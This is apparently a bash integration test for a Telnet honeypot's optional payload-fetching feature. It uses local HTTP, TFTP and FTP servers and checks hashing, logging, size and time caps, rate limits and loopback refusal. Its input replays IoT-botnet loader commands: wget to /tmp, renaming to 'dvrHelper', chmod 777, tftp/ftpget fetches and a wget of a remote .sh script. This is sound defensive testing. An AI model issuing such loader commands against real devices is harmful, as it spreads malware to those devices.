#!/usr/bin/env bash
# Operator-enabled fetching, end to end, inside a loopback-only network namespace: `busytrap
# serve` with fetch.enabled, a real HTTP server (python3 -m http.server's handler, plus a slow
# path) and tiny TFTP and FTP servers on 127.0.0.1, driven over Telnet like a bot's loader.
#  1. allow_loopback = true: wget, tftp and ftpget payloads land in the downloads dir under their
#     SHA-256 (checked with sha256sum), logged as cowrie.session.file_download with url, outfile,
#     shasum, destfile; the device's file has the bytes; a 404 is answered as BusyBox does.
#  2. caps: a payload over fetch.max_bytes and a server slower than fetch.timeout fail (logged
#     with their reason); meanwhile other sessions are answered at once, and lines sent behind
#     a download run after it, in order.
#  3. rate limit: the (burst+1)th download from one destination is refused without a request.
#  4. allow_loopback = false: 127.0.0.1, 2130706433, 0x7f.1 and localhost (resolved, then
#     refused before connect) are refused; the HTTP server sees no request at all.
#  5. a public address fails with "Network is unreachable" (no route in the namespace).
#  6. fetching off (the default): the emulated failure, no request.
source "$(dirname "$0")/lib/honeypot.sh"

HTTP_PORT=18080
TFTP_PORT=18069
FTP_PORT=18021
mkdir -p "$WORK/www" "$WORK/downloads"
head -c 5000 /dev/urandom >"$WORK/www/payload.bin"
head -c 300000 /dev/urandom >"$WORK/www/big.bin"
printf 'tftp payload\n' >"$WORK/www/t.bin"

cat >"$WORK/servers.py" <<'PY'
import http.server, os, socket, struct, sys, threading, time
root, http_port, tftp_port, log, ftp_port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], int(sys.argv[5])

class Handler(http.server.SimpleHTTPRequestHandler):
    def __init__(self, *a, **k):
        super().__init__(*a, directory=root, **k)
    def log_message(self, fmt, *args):
        with open(log, "a") as f:
            f.write("%s %s\n" % (self.command, self.path))
    def do_GET(self):
        if self.path == "/slow":
            self.log_message("")
            time.sleep(8)
            return
        super().do_GET()

def tftp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", tftp_port))
    while True:
        data, peer = s.recvfrom(2048)
        if struct.unpack("!H", data[:2])[0] != 1:
            continue
        name = data[2:].split(b"\0")[0].decode()
        with open(log, "a") as f:
            f.write("RRQ %s\n" % name)
        path = os.path.join(root, os.path.basename(name))
        t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        t.bind(("127.0.0.1", 0))
        t.settimeout(2)
        if not os.path.exists(path):
            t.sendto(struct.pack("!HH", 5, 1) + b"File not found\0", peer)
            continue
        body = open(path, "rb").read()
        block = 1
        while True:
            chunk = body[(block - 1) * 512:block * 512]
            t.sendto(struct.pack("!HH", 3, block) + chunk, peer)
            try:
                t.recvfrom(64)
            except socket.timeout:
                break
            if len(chunk) < 512:
                break
            block += 1

def ftp_session(conn):
    f = conn.makefile("rb")
    say = lambda text: conn.sendall(text.encode() + b"\r\n")
    say("220 test")
    passive = None
    while True:
        line = f.readline().decode().strip()
        if not line:
            return
        verb, _, arg = line.partition(" ")
        verb = verb.upper()
        if verb == "USER":
            say("331 password")
        elif verb == "PASS":
            say("230 in")
        elif verb == "PWD":
            say('257 "/"')
        elif verb in ("TYPE", "CWD"):
            say("200 ok")
        elif verb == "EPSV":
            passive = socket.socket()
            passive.bind(("127.0.0.1", 0))
            passive.listen(1)
            say("229 Entering Extended Passive Mode (|||%d|)" % passive.getsockname()[1])
        elif verb in ("SIZE", "RETR"):
            path = os.path.join(root, os.path.basename(arg))
            with open(log, "a") as out:
                out.write("%s %s\n" % (verb, arg))
            if not os.path.exists(path):
                say("550 Failed to open file.")
            elif verb == "SIZE":
                say("213 %d" % os.path.getsize(path))
            else:
                say("150 sending")
                data, _ = passive.accept()
                data.sendall(open(path, "rb").read())
                data.close()
                say("226 done")
        elif verb == "QUIT":
            say("221 bye")
            return
        else:
            say("502 no")

def ftp():
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("127.0.0.1", ftp_port))
    s.listen(4)
    while True:
        conn, _ = s.accept()
        threading.Thread(target=ftp_session, args=(conn,), daemon=True).start()

threading.Thread(target=tftp, daemon=True).start()
threading.Thread(target=ftp, daemon=True).start()
http.server.ThreadingHTTPServer(("127.0.0.1", http_port), Handler).serve_forever()
PY
python3 "$WORK/servers.py" "$WORK/www" "$HTTP_PORT" "$TFTP_PORT" "$WORK/requests.log" "$FTP_PORT" 2>"$WORK/servers.err" &
SERVERS_PID=$!
trap 'kill $SERVERS_PID 2>/dev/null || true; cleanup' EXIT
for i in $(seq 50); do
  python3 -c "import socket,sys; socket.create_connection(('127.0.0.1', $HTTP_PORT), 1)" 2>/dev/null && break
  sleep 0.1
done
: >"$WORK/requests.log"

run_lines() {  # run_lines OUT < lines
  python3 "$TOOLS/shell_client.py" "$PORT" root anything >"$1" || fail "telnet dialogue: $(tail -3 "$1")"
}
output_of() {  # output_of FILE LINE_NUMBER
  python3 -c "import json,sys; print(json.loads(open(sys.argv[1]).read().splitlines()[int(sys.argv[2])])['output'], end='')" "$1" "$2"
}

# ---- 1-3: fetching on, loopback allowed ----
start_honeypot --no-delays --set 'auth.rules=*:*' --set "log.downloads_dir=$WORK/downloads" \
  --set fetch.enabled=true --set fetch.allow_loopback=true --set fetch.max_bytes=100000 \
  --set fetch.timeout=3 --set fetch.rate_burst=11 --set fetch.rate_per_minute=0
grep -q "REAL fetching is on" "$WORK/serve.out" || fail "serve does not announce real fetching"
run_lines "$WORK/on.out" <<LINES
cd /tmp; wget http://127.0.0.1:$HTTP_PORT/payload.bin -O dvrHelper; chmod 777 dvrHelper; echo "status \$?"
wc -c < /tmp/dvrHelper
tftp -g -l t.bin -r t.bin 127.0.0.1 $TFTP_PORT; cat t.bin
wget http://127.0.0.1:$HTTP_PORT/nope
wget http://127.0.0.1:$HTTP_PORT/big.bin; echo "big \$?"
wget http://127.0.0.1:$HTTP_PORT/slow; echo "slow \$?"
echo still here
ftpget -u bot -p pw -P $FTP_PORT 127.0.0.1 /tmp/f.bin payload.bin; echo "ftp \$?"; wc -c < /tmp/f.bin
ftpget -P $FTP_PORT 127.0.0.1 /tmp/g.bin missing.bin; echo "ftp \$?"
LINES
out=$(output_of "$WORK/on.out" 0)
# BusyBox 1.16 (the default profile): no "saving to" line; the progress line starts with CR
# (the session's terminal is a pty).
want="Connecting to 127.0.0.1:$HTTP_PORT (127.0.0.1:$HTTP_PORT)
"$'\r'"dvrHelper            100% |********************************|  5000  0:00:00 ETA
status 0"
[ "$out" = "$want" ] || fail "wget success reply: $(printf '%s' "$out" | od -c | head)"
[ "$(output_of "$WORK/on.out" 1)" = "5000" ] || fail "device file size: $(output_of "$WORK/on.out" 1)"
[ "$(output_of "$WORK/on.out" 2)" = "tftp payload" ] || fail "tftp: $(output_of "$WORK/on.out" 2)"
[ "$(output_of "$WORK/on.out" 3)" = "Connecting to 127.0.0.1:$HTTP_PORT (127.0.0.1:$HTTP_PORT)
wget: server returned error: HTTP/1.0 404 File not found" ] || fail "404: $(output_of "$WORK/on.out" 3)"
output_of "$WORK/on.out" 4 | grep -q "^big 1$" || fail "size cap: $(output_of "$WORK/on.out" 4)"
[ "$(output_of "$WORK/on.out" 5)" = "Connecting to 127.0.0.1:$HTTP_PORT (127.0.0.1:$HTTP_PORT)
wget: download timed out
slow 1" ] || fail "timeout: $(output_of "$WORK/on.out" 5)"
[ "$(output_of "$WORK/on.out" 7)" = "ftp 0
5000" ] || fail "ftpget: $(output_of "$WORK/on.out" 7)"
[ "$(output_of "$WORK/on.out" 8)" = "ftpget: unexpected server response to RETR: 550 Failed to open file.
ftp 1" ] || fail "ftpget of a missing file: $(output_of "$WORK/on.out" 8)"
slow_seconds=$(python3 -c "import json,sys; print(json.loads(open(sys.argv[1]).read().splitlines()[5])['seconds'])" "$WORK/on.out")
python3 -c "import sys; s=float(sys.argv[1]); sys.exit(0 if 2.9 <= s < 6 else 1)" "$slow_seconds" \
  || fail "the timeout line took $slow_seconds s (fetch.timeout = 3)"

# The network thread never waits for a download: while one session's line waits for /slow
# (3 s, then the timeout), another session is answered at once.
echo "wget -q http://127.0.0.1:$HTTP_PORT/slow" | python3 "$TOOLS/shell_client.py" "$PORT" root x >"$WORK/slowA.out" &
SLOW_CLIENT=$!
for i in $(seq 50); do grep -q "GET /slow" "$WORK/requests.log" 2>/dev/null && [ "$(grep -c 'GET /slow' "$WORK/requests.log")" -ge 2 ] && break; sleep 0.05; done
echo "echo other session" | python3 "$TOOLS/shell_client.py" "$PORT" root x >"$WORK/other.out" || fail "second session"
kill -0 "$SLOW_CLIENT" 2>/dev/null || fail "the slow download ended before the other session was answered"
wait "$SLOW_CLIENT" || fail "slow session"
other_seconds=$(python3 -c "import json,sys; print(json.loads(open(sys.argv[1]).readline())['seconds'])" "$WORK/other.out")
python3 -c "import sys; sys.exit(0 if float(sys.argv[1]) < 0.5 else 1)" "$other_seconds" \
  || fail "another session waited $other_seconds s while a download was running"

# Lines sent while a download runs wait for it and then run in order, none lost.
python3 - "$PORT" "$HTTP_PORT" >"$WORK/queued.out" 2>&1 <<'PY' || fail "lines queued behind a download: $(tail -3 "$WORK/queued.out")"
import re, socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
def read_until(done):
    buf = b""
    deadline = time.monotonic() + 10
    while not done(buf):
        assert time.monotonic() < deadline, buf[-300:]
        buf += s.recv(65536)
    return buf
read_until(lambda b: b.endswith(b"login: ")); s.sendall(b"root\r\n")
read_until(lambda b: b.endswith(b"Password: ")); s.sendall(b"x\r\n")
read_until(lambda b: b.endswith(b"# "))
lines = b"wget -q http://127.0.0.1:%s/slow\r\n" % sys.argv[2].encode()
lines += b"".join(b"echo q%d\r\n" % i for i in range(1, 41))
s.sendall(lines)
def answered(buf):
    i = buf.find(b"download timed out")
    return i >= 0 and re.search(rb"(?<!echo )q40\r\n", buf[i:]) is not None
buf = read_until(answered)
after = buf[buf.find(b"download timed out"):]
found = [int(n) for n in re.findall(rb"(?<!echo )q(\d+)\r\n", after)]
assert found == list(range(1, 41)), found
print("queued lines answered in order")
PY

# Rate limit: burst 11, nothing regained. 127.0.0.1 has had 9 downloads (payload, tftp, 404,
# big, slow three times, two ftpget), so of these three the first two go and the third is
# refused without reaching the server.
before=$(grep -c "GET /payload.bin" "$WORK/requests.log")
run_lines "$WORK/rate.out" <<LINES
wget -q -O /tmp/r1 http://127.0.0.1:$HTTP_PORT/payload.bin; echo \$?
wget -q -O /tmp/r2 http://127.0.0.1:$HTTP_PORT/payload.bin; echo \$?
wget -q -O /tmp/r3 http://127.0.0.1:$HTTP_PORT/payload.bin; echo \$?
LINES
for n in 0 1; do [ "$(output_of "$WORK/rate.out" $n)" = "0" ] || fail "download $n before the limit: $(output_of "$WORK/rate.out" $n)"; done
[ "$(output_of "$WORK/rate.out" 2)" = "wget: can't connect to remote host (127.0.0.1): Connection refused
1" ] || fail "rate-limited reply: $(output_of "$WORK/rate.out" 2)"
after=$(grep -c "GET /payload.bin" "$WORK/requests.log")
[ $((after - before)) -eq 2 ] || fail "expected 2 requests under the rate limit, server saw $((after - before))"
stop_honeypot

python3 - "$LOG" "$WORK/downloads" "$WORK/www" "$HTTP_PORT" <<'PY' || fail "event log check (fetching on)"
import hashlib, json, os, subprocess, sys
events = [json.loads(l) for l in open(sys.argv[1])]
downloads, www, port = sys.argv[2], sys.argv[3], sys.argv[4]
def sha(path):
    return subprocess.run(["sha256sum", path], capture_output=True, text=True, check=True).stdout.split()[0]
ok = [e for e in events if e["eventid"] == "cowrie.session.file_download" and "url" in e]
urls = {}
for e in ok:
    urls.setdefault(e["url"], e)  # the first download of each URL
assert len(ok) == 5, [(e["url"], e["destfile"]) for e in ok]  # dvrHelper, t.bin, f.bin, /tmp/r1, /tmp/r2
for url, name, dest in ((f"http://127.0.0.1:{port}/payload.bin", "payload.bin", "/tmp/dvrHelper"),
                        (f"tftp://127.0.0.1:{port.replace('18080', '18069')}/t.bin", "t.bin", "/tmp/t.bin"),
                        ("ftp://bot:pw@127.0.0.1:18021/payload.bin", "payload.bin", "/tmp/f.bin")):
    assert url in urls, (url, list(urls))
    e = urls[url]
    want = sha(os.path.join(www, name))
    assert e["shasum"] == want, (e, want)
    assert e["destfile"] == dest, e
    assert os.path.basename(e["outfile"]) == want and os.path.dirname(os.path.abspath(e["outfile"])) == os.path.abspath(downloads), e
    assert sha(os.path.join(downloads, want)) == want, "stored file differs"
# Every file in the downloads dir is named by its own SHA-256; nothing over the cap was stored.
for name in os.listdir(downloads):
    assert sha(os.path.join(downloads, name)) == name, name
assert sha(os.path.join(www, "big.bin")) not in os.listdir(downloads)
failed = {e["url"].rsplit("/", 1)[1]: e for e in events if e["eventid"] == "cowrie.session.file_download.failed"}
assert failed["nope"]["outcome"] == "not-found" and "404" in failed["nope"]["reason"], failed["nope"]
assert failed["big.bin"]["outcome"] == "too-large" and "max_bytes" in failed["big.bin"]["reason"], failed["big.bin"]
assert failed["slow"]["outcome"] == "timeout", failed["slow"]
assert sum(1 for e in events if e["eventid"] == "cowrie.session.file_download.failed" and e["url"].endswith("/slow")) == 3
assert failed["payload.bin"]["outcome"] == "rate-limited", failed["payload.bin"]
assert failed["missing.bin"]["outcome"] == "not-found", failed["missing.bin"]
print("ok")
PY

# ---- 4-5: loopback refused; a public address has no route ----
: >"$WORK/requests.log"
start_honeypot --no-delays --set 'auth.rules=*:*' --set "log.downloads_dir=$WORK/downloads" \
  --set fetch.enabled=true --set fetch.timeout=5 --set fetch.max_per_session=7
run_lines "$WORK/off.out" <<LINES
wget http://127.0.0.1:$HTTP_PORT/payload.bin
wget http://2130706433:$HTTP_PORT/payload.bin
wget http://0x7f.1:$HTTP_PORT/payload.bin
wget http://localhost:$HTTP_PORT/payload.bin
tftp -g -r t.bin 127.0.0.1 $TFTP_PORT
wget http://[::1]:$HTTP_PORT/payload.bin
wget http://1.1.1.1/x.sh
wget http://1.1.1.1/y.sh
LINES
stop_honeypot
[ ! -s "$WORK/requests.log" ] || fail "a refused destination was contacted: $(cat "$WORK/requests.log")"
[ "$(output_of "$WORK/off.out" 0)" = "wget: can't connect to remote host (127.0.0.1): Connection refused" ] \
  || fail "refused loopback reply: $(output_of "$WORK/off.out" 0)"
[ "$(output_of "$WORK/off.out" 6)" = "Connecting to 1.1.1.1 (1.1.1.1:80)
wget: can't connect to remote host (1.1.1.1): Network is unreachable" ] \
  || fail "no-route reply: $(output_of "$WORK/off.out" 6)"
python3 - "$LOG" <<'PY' || fail "event log check (loopback refused)"
import json, sys
events = [json.loads(l) for l in open(sys.argv[1])]
session = [e for e in events if e["eventid"] == "cowrie.session.file_download.failed"][-8:]
outcomes = [(e["url"], e["outcome"]) for e in session]
assert [o for _, o in outcomes] == ["refused"] * 6 + ["connect-failed", "rate-limited"], outcomes
assert "max_per_session" in session[7]["reason"], session[7]
assert "loopback" in session[3]["reason"] and session[3].get("dst_ip") in ("127.0.0.1", "::1"), session[3]  # resolved, then refused
assert "Network is unreachable" in session[6]["reason"], session[6]
print("ok")
PY

# ---- 6: the default: nothing is fetched ----
start_honeypot --no-delays --set 'auth.rules=*:*'
run_lines "$WORK/default.out" <<LINES
wget http://127.0.0.1:$HTTP_PORT/payload.bin
LINES
stop_honeypot
[ ! -s "$WORK/requests.log" ] || fail "fetching is off by default, yet the server was contacted"
[ "$(output_of "$WORK/default.out" 0)" = "Connecting to 127.0.0.1:$HTTP_PORT (127.0.0.1:$HTTP_PORT)
wget: can't connect to remote host (127.0.0.1): Connection refused" ] || fail "default reply: $(output_of "$WORK/default.out" 0)"
echo "serve_fetch: ok"
